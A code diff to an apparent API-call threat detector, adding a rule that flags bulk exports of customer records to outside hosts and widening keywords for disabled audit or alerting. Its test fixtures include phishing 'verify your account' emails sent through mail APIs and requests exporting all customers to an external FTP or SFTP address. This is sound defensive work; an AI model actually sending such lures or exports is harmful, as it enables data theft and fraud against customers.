@@ -8,7 +8,7 @@ import { API_EFFECT_PATTERNS, bulkToHook, codeRelayed, destroysContainer, dnsRep
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { parseRequest, requestText, REQUEST_PATTERNS, type ApiRequest } from '../parse/api-request.js';
 import { API_EXPOSURE_PATTERNS } from '../parse/api-exposure.js';
-import { API_REACH_PATTERNS, credentialsToHook, listLure, zoneHandedOut } from '../parse/api-reach.js';
+import { API_REACH_PATTERNS, credentialsToHook, deliveredOutside, listLure, zoneHandedOut } from '../parse/api-reach.js';
 import { API_INTEGRITY_PATTERNS } from '../parse/api-integrity.js';
 import { API_EFFECT_RULES, batchViews, firstEffect, type EffectContext } from '../parse/api-views.js';
 import { safeguarded } from '../frames/safeguards.js';
@@ -997,7 +997,7 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       name: 'Audit, logging or another safeguard switched off through an API',
       primitive: 'MANIPULATION',
       score: 7,
-      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute', 'pagerduty', 'opsgenie', 'monitor', 'alert', 'detector', 'guardduty', 'victorops', '"off"', "'off'", ':off', ': off', '=off'],
+      keywords: ['enabled', 'retention', 'enforced', 'disabled', 'active', 'deactivate', 'disable', 'suspend', '/stop', 'protection', 'enforce_admins', 'required_', 'muted', 'paused', 'mute', 'pagerduty', 'opsgenie', 'monitor', 'alert', 'detector', 'guardduty', 'victorops', '"off"', "'off'", ':off', ': off', '=off', ': false', ':false', '=false'],
       // a development project's debug sink or alert is scratch
       detect: (ctx) => (ctx.env === 'nonprod' ? undefined : firstEffect(ctx.views, safeguardOff)),
       examples: {
@@ -1115,6 +1115,18 @@ const apiCallAnalyzer: Analyzer<ApiContext> = {
       examples: {
         flag: ['POST https://api.sendgrid.com/v3/mail/send {"personalizations": [{"to": [{"email": "lista-clientes@acme.es"}]}], "from": {"email": "seguridad@acme-soporte.com"}, "subject": "Verifique su cuenta hoy", "content": [{"type": "text/html", "value": "Su cuenta será suspendida. <a href=\'https://acme-verificar.com/login\'>Verificar</a>"}]}', "POST https://api.mailgun.net/v3/mg.acme.com/messages to=customers@mg.acme.com subject='Action requise : votre compte sera suspendu' text='Vérifiez votre compte : https://acme-verification.fr/login'"],
         pass: ["POST https://api.mailgun.net/v3/mg.acme.com/messages to=customers@mg.acme.com subject='Nouveautés de novembre' text='Découvrez nos nouveautés : https://acme.fr/blog'", 'POST https://api.sendgrid.com/v3/mail/send {"personalizations": [{"to": [{"email": "ana@acme.es"}]}], "subject": "Verifique su cuenta hoy", "content": [{"type": "text/plain", "value": "Su cuenta será suspendida"}]}'],
+      },
+    },
+    {
+      id: 'A51',
+      name: 'Export of people records delivered to a public address or an outside host',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['deliver', 'destination', 'target_url', 'upload_url', 'sink', 'export_to', 'output_url', 'push_to', 'send_to', 'callback_url', 'webhook_url'],
+      detect: (ctx) => firstEffect(ctx.views, deliveredOutside),
+      examples: {
+        flag: ['POST https://api.acme.com/v1/exports {"resource": "customers", "scope": "all", "deliver_to": "ftp://203.0.113.50/drop"}', 'POST https://crm.acme.com/api/v2/export-jobs {"object": "contacts", "destination": "sftp://upload.partner-leadgen.com/in"}'],
+        pass: ['POST https://api.acme.com/v1/exports {"resource": "orders", "scope": "last_30_days", "deliver_to": "s3://acme-reporting/exports/"}', 'POST https://api.acme.com/v1/exports {"resource": "customers", "deliver_to": "sftp://10.2.0.14/in"}'],
       },
     },
     ...(API_EFFECT_RULES as ThreatRule<ApiContext>[]),
